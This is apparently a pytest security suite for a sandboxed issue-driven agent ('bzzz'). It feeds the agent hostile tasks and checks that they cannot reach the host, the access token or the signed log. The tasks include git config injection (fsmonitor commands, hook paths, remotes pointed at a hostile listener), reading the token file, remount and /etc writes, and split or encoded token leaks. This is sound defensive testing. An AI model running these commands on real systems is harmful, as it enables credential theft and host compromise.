"""Hostile issues against a real agent (supervisor, log, github and executor workers) and the
forge, as the review tried them: what a trusted-looking task writes can reach neither the host,
nor the token, nor the signed log in clear. Each test also shows the hostile command ran in the
sandbox (a positive control), so none passes by the attack not running.

The agent runs as root here (as `bzzz demo` does); `test_an_unprivileged_agent_*` runs one as an
ordinary user too.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bzzz._core import MerkleLog
from tests.agents import Agent
from tests.issues import agent_workers, comments, open_issue, wait_for_comment
from tests.security.harness import TOKEN, agent_as

pytestmark = [
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed"),
    pytest.mark.skipif(os.geteuid() != 0, reason="the review's set-up: an agent running as root"),
]


def task(*commands: str) -> str:
    return "A task.\n\n```bzzz-task\nrun: " + json.dumps(list(commands)) + "\n```\n"


def pull_files(forge: Any, tmp_path: Path, number: int) -> Path:
    """A checkout of the task's pull request branch, made by the test (not the agent)."""
    checkout = tmp_path / f"pr-{number}"
    subprocess.run(
        [
            "git",
            "clone",
            "--quiet",
            "--branch",
            f"bzzz/{number}-agent-1",
            f"{forge.url}/alice/tasks.git",
            str(checkout),
        ],
        check=True,
        env={"PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(tmp_path)},
    )
    return checkout


class Listener:
    """A TCP port on 127.0.0.1 that records whatever connects to it (a hostile remote)."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        try:
            while True:
                conn, _ = self.server.accept()
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(65536))
                except OSError:
                    self.received.append(b"")
                conn.close()
        except OSError:
            pass

    def close(self) -> None:
        self.server.close()


def test_a_task_that_rewrites_its_git_config_runs_nothing_on_the_host_and_gets_no_token(
    start_agent,
    forge: Any,
    token_file: Path,
    tmp_path: Path,
) -> None:
    marker = tmp_path / "fsmonitor-fired"
    hostile = Listener()
    try:
        start_agent(agent_workers(forge.url, token_file, allow=["sh", "git"]))
        number = open_issue(
            forge,
            "Tidy the repo",
            task(
                f"git config core.fsmonitor 'touch {marker}; false'",
                f"git config remote.origin.url http://127.0.0.1:{hostile.port}/x.git",
                f"git config --add remote.origin.pushurl http://127.0.0.1:{hostile.port}/x.git",
                f"git config url.http://127.0.0.1:{hostile.port}/.insteadOf {forge.url}/",
                "git config core.hooksPath /workspace/hooks",
                'sh -c \'mkdir -p hooks && printf "#!/bin/sh\\ntouch /tmp/hook-fired\\n" > hooks/pre-commit '
                "&& chmod +x hooks/pre-commit && mkdir -p .git/hooks && cp hooks/pre-commit .git/hooks/pre-push && git config --get core.fsmonitor > RAN.md'",
            ),
        )
        bodies = wait_for_comment(forge, number, "Opened ", timeout=120)
    finally:
        hostile.close()
    # Positive control: the commands ran in the sandbox, against its own copy of .git.
    checkout = pull_files(forge, tmp_path, number)
    assert (checkout / "RAN.md").read_text().strip() == f"touch {marker}; false"
    # And none of it reached the host's git: no fsmonitor, no hook, no push to the hostile remote.
    assert not marker.exists() and not Path("/tmp/hook-fired").exists()
    assert hostile.received == []
    assert all(TOKEN not in b for b in bodies)


def test_root_in_the_sandbox_has_no_capabilities_and_cannot_uncover_the_token(
    start_agent,
    forge: Any,
    token_file: Path,
    tmp_path: Path,
) -> None:
    start_agent(agent_workers(forge.url, token_file))
    number = open_issue(
        forge,
        "Look around",
        task(
            'sh -c \'grep -E "^Cap(Eff|Prm|Bnd)" /proc/self/status > CAPS.md; id -u >> CAPS.md; '
            "umount -l /tmp 2>> CAPS.md; mount -o remount,rw / 2>> CAPS.md; touch /etc/bzzz-pwned 2>> CAPS.md; "
            f'cat {token_file} >> CAPS.md 2>&1; ls /proc | grep -cE "^[0-9]+$" > PROCS.md; true\'',
        ),
    )
    wait_for_comment(forge, number, "Opened ", timeout=120)
    checkout = pull_files(forge, tmp_path, number)
    caps = (checkout / "CAPS.md").read_text()
    assert "CapEff:\t0000000000000000" in caps and "CapBnd:\t0000000000000000" in caps  # it ran, as nobody
    assert caps.splitlines()[3] != "0"
    assert TOKEN not in caps and not Path("/etc/bzzz-pwned").exists()
    assert int((checkout / "PROCS.md").read_text()) < 10  # its own processes only


def test_a_secret_in_a_tasks_output_reaches_no_comment_log_entry_state_file_or_worker_log(
    start_agent,
    forge: Any,
    token_file: Path,
    tmp_path: Path,
) -> None:
    basic = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
    agent = start_agent(agent_workers(forge.url, token_file))
    # The issue's author knows the token (a leak elsewhere); the agent must still not republish
    # it. Each form is printed in two halves, so the issue's text holds none of them whole.
    halves = " ".join(
        f"{form[: len(form) // 2]} {form[len(form) // 2 :]}" for form in (TOKEN, basic, TOKEN.encode().hex())
    )
    number = open_issue(
        forge,
        "Print things",
        task(
            f"sh -c 'echo output-marker; printf \"%s%s\\n\" {halves}; exit 3'",
        ),
    )
    bodies = wait_for_comment(forge, number, "The task failed", timeout=120)
    failure = next(b for b in bodies if "The task failed" in b)
    assert "output-marker" in failure and "[REDACTED]" in failure  # it ran, and its output was quoted
    agent.call("shutdown")
    assert agent.process.wait(30) == 0
    forms = [TOKEN, base64.b64encode(TOKEN.encode()).decode()[:16], basic[8:40], TOKEN.encode().hex()]
    with MerkleLog.open(agent.data_dir / "log" / "hypercore") as signed:
        entries = b"\n".join(signed.get(i) for i in range(signed.length))
    assert b"task_finished" in entries or b"task_failed" in entries
    everything = [entries]
    for path in agent.data_dir.rglob("*"):
        if path.is_file():
            everything.append(path.read_bytes())
    for db in agent.data_dir.glob("state/*.sqlite3"):
        with sqlite3.connect(db) as conn:  # WAL content checkpointed into the file
            conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
            everything.append(db.read_bytes())
    for blob in everything:
        for form in forms:
            at = blob.find(form.encode())
            assert at < 0, blob[max(0, at - 300) : at + 100]


@pytest.mark.parametrize(
    "how",
    [
        'printf "%s%s\\n" {a} {b} > notes.txt',  # in a file's content
        'printf "%s%s\\n" {a} {b} | base64 > notes.txt',  # encoded
        'touch "$(printf %s%s {a} {b})"',  # as a file's name
        'ln -s "$(printf %s%s {a} {b})" notes.txt',  # as a link's target
    ],
)
def test_a_result_that_would_publish_the_token_is_not_committed_or_pushed(
    start_agent,
    forge: Any,
    token_file: Path,
    tmp_path: Path,
    how: str,
) -> None:
    start_agent(agent_workers(forge.url, token_file))
    half = len(TOKEN) // 2
    write = how.format(a=TOKEN[:half], b=TOKEN[half:])
    number = open_issue(forge, "Write notes", task(f"sh -c 'echo ran > RAN.md; {write}'"))
    bodies = wait_for_comment(forge, number, "Not proposed", timeout=120)
    assert "would publish a secret" in next(b for b in bodies if "Not proposed" in b)
    assert all(TOKEN not in b for b in bodies)
    pulls = forge.call("GET", "/repos/alice/tasks/pulls?state=all", token="alice-token").json()
    assert pulls == []
    branch = forge.call("GET", f"/repos/alice/tasks/branches/bzzz/{number}-agent-1", token="alice-token")
    assert branch.status_code == 404


def test_positive_control_the_same_task_without_the_token_is_proposed(
    start_agent,
    forge: Any,
    token_file: Path,
    tmp_path: Path,
) -> None:
    start_agent(agent_workers(forge.url, token_file))
    number = open_issue(
        forge, "Write notes", task("sh -c 'echo ran > RAN.md; printf \"%s%s\\n\" not-a se-cret > notes.txt'")
    )
    wait_for_comment(forge, number, "Opened ", timeout=120)
    assert (pull_files(forge, tmp_path, number) / "notes.txt").read_text() == "not-ase-cret\n"
    branch = forge.call("GET", f"/repos/alice/tasks/branches/bzzz/{number}-agent-1", token="alice-token")
    assert branch.status_code == 200  # so the 404 above means the branch was never pushed


def test_an_issue_whose_text_holds_the_token_is_not_taken_and_leaves_it_nowhere(
    start_agent,
    forge: Any,
    token_file: Path,
    tmp_path: Path,
) -> None:
    agent = start_agent(agent_workers(forge.url, token_file))
    leaky = open_issue(forge, "Print things", task(f"sh -c 'echo {TOKEN}'"))
    # Positive control: an issue after it, alike but for the token, is taken and done.
    plain = open_issue(forge, "Print other things", task("sh -c 'echo not-a-token > RAN.md'"))
    wait_for_comment(forge, plain, "Opened ", timeout=120)
    agent.wait_for(
        lambda: "holds a secret of this agent" in (agent.data_dir / "logs" / "github.log").read_text(),
        timeout=30,
        what="the github worker's warning",
    )
    assert comments(forge, leaky) == []  # not claimed, and not told that the token is live
    agent.call("shutdown")
    assert agent.process.wait(30) == 0
    for path in agent.data_dir.rglob("*"):
        if path.is_file():
            assert TOKEN.encode() not in path.read_bytes(), path


def test_workspaces_left_by_a_killed_executor_are_removed_when_it_starts(
    start_agent,
    forge: Any,
    token_file: Path,
    tmp_path: Path,
) -> None:
    from bzzz.executor.sandbox import Sandbox, clean_stale
    from bzzz.executor.workspace import Workspace, git_url

    data_dir = tmp_path / "agent"
    work = data_dir / "workspaces"
    work.mkdir(parents=True)
    # As a killed executor leaves them: a clone and a task's area (mounted, as root), never removed.
    Workspace.clone(
        work, git_url(forge.url, "alice/tasks"), token=TOKEN, branch="bzzz/7-agent-1", author=("agent-1", "a@b")
    )
    left = Sandbox.open(work, name="task-7")
    try:
        (left.files / "junk").write_text("x")
        assert len(list(work.iterdir())) >= 2
        agent = start_agent(agent_workers(forge.url, token_file))
        agent.wait_running("executor", timeout=30)
        agent.wait_for(lambda: not any(work.iterdir()), timeout=60, what="the stale workspaces removed")
        assert str(work) not in Path("/proc/self/mountinfo").read_text()
    finally:
        clean_stale(work)  # whatever the executor did not (a failed run must not leave a mount behind)


AGENT_UID = 4242


@pytest.fixture
def unprivileged_agent(forge: Any) -> Iterator[tuple[Agent, Path]]:
    with agent_as(AGENT_UID, lambda token_file: agent_workers(forge.url, token_file)) as running:
        yield running


def test_an_unprivileged_agent_confines_its_tasks_the_same_way(
    unprivileged_agent: tuple[Agent, Path],
    forge: Any,
    tmp_path: Path,
) -> None:
    agent, token_file = unprivileged_agent
    marker = agent.data_dir / "fsmonitor-fired"  # the agent's uid could write it; the task cannot see it
    number = open_issue(
        forge,
        "Look around",
        task(
            'sh -c \'grep -E "^Cap(Eff|Bnd)" /proc/self/status > CAPS.md; id -u >> CAPS.md; '
            f"cat {token_file} >> CAPS.md 2>&1; ls -A {agent.data_dir} >> CAPS.md 2>&1; "
            f'git config core.fsmonitor "touch {marker}; false" 2>> CAPS.md; true\'',
        ),
    )
    wait_for_comment(forge, number, "Opened ", timeout=120)
    caps = (pull_files(forge, tmp_path, number) / "CAPS.md").read_text()
    assert "CapEff:\t0000000000000000" in caps  # it ran
    assert TOKEN not in caps and "bzzz.toml" not in caps and "state" not in caps.split()
    assert not marker.exists()
